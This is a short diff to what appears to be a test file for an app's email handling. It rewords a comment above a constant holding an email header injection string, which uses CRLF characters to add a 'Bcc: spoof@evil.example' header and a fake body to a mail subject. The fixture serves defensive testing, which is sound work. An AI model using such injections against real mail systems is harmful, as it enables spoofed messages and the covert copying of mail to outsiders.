@@ -28,7 +28,7 @@ import { BASE_URL, DEMO_AFFILIATE, adminToken, affiliateToken, api, useEmulators
 
 useEmulators();
 
-/** What the report sent in an affiliate job's title: a second header and a body of its own. */
+/** A text that would add a header and a body of its own to any mail whose subject took it. */
 const INJECTED = '\r\nBcc: spoof@evil.example\r\n\r\nFake body';
 const pdf: FilePart = { name: 'cv.pdf', bytes: RESUME_BYTES.pdf, type: CONTENT_TYPES.pdf };
 
